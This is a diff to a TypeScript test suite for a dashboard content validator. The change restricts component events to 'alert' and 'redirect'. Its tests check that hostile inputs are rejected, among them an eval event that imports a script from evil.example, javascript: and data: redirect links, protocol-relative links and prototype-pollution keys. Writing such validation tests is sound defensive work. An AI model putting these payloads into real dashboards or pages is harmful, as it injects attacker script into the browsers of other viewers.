@@ -285,16 +285,23 @@ describe('dashboard content', () => {
     expect(animated({})).toEqual(['content.componentData[0].animations:dashboard_content_shape']);
   });
 
-  it('takes events whose names are identifiers (the view calls window[name]), at most 10', () => {
+  it('takes only the events alert and redirect (never a global by name: eval would run the author\'s script in every viewer), a redirect to a path or an http(s) address, at most 10', () => {
     const evented = (events: unknown) => problems(contentOf([component('VText', { events })]));
-    expect(evented({ openDetail: 'line 1', $go_2: '' })).toEqual([]);
-    expect(evented({ 'alert(1)': '' })).toEqual(['content.componentData[0].events.alert(1):dashboard_event_name']);
-    expect(evented({ '1go': '' })).toEqual(['content.componentData[0].events.1go:dashboard_event_name']);
+    expect(evented({ alert: 'Line 1 stopped', redirect: '/deviceView' })).toEqual([]);
+    expect(evented({ redirect: 'https://example.com/line?id=1' })).toEqual([]);
+    expect(evented({ eval: "import('//evil.example/x.js')" })).toEqual(['content.componentData[0].events.eval:dashboard_event_name']);
+    for (const name of ['setTimeout', 'open', 'openDetail', 'alert(1)', '1go']) expect(evented({ [name]: 'x' })).toEqual([`content.componentData[0].events.${name}:dashboard_event_name`]);
     expect(evented(JSON.parse('{"__proto__": "x"}'))).toEqual(['content.componentData[0].events.__proto__:dashboard_event_name']);
     expect(evented({ constructor: 'x' })).toEqual(['content.componentData[0].events.constructor:dashboard_event_name']);
-    expect(evented({ go: 'x'.repeat(201) })).toEqual(['content.componentData[0].events.go:text_too_long']);
-    expect(evented({ go: 7 })).toEqual(['content.componentData[0].events.go:dashboard_content_shape']);
+    for (const link of ['javascript:alert(1)', 'JavaScript:alert(1)', '//evil.example', '/\\evil.example', 'data:text/html,x', 'line-1', ''])
+      expect(evented({ redirect: link })).toEqual(['content.componentData[0].events.redirect:dashboard_event_link']);
+    expect(evented({ alert: 'x'.repeat(201) })).toEqual(['content.componentData[0].events.alert:text_too_long']);
+    expect(evented({ alert: 7 })).toEqual(['content.componentData[0].events.alert:dashboard_content_shape']);
     expect(evented(Object.fromEntries(Array.from({ length: 11 }, (_, i) => [`e${i}`, ''])))).toEqual(['content.componentData[0].events:dashboard_list_too_long']);
+    // The message names the events there are.
+    expect(validateDashboardContent(contentOf([component('VText', { events: { eval: 'x' } })])).errors).toEqual([
+      { field: 'content.componentData[0].events.eval', key: 'dashboard_event_name', params: { values: 'alert, redirect' } },
+    ]);
   });
 
   it('refuses hostile strings anywhere: control characters, broken UTF-16, past their bound', () => {
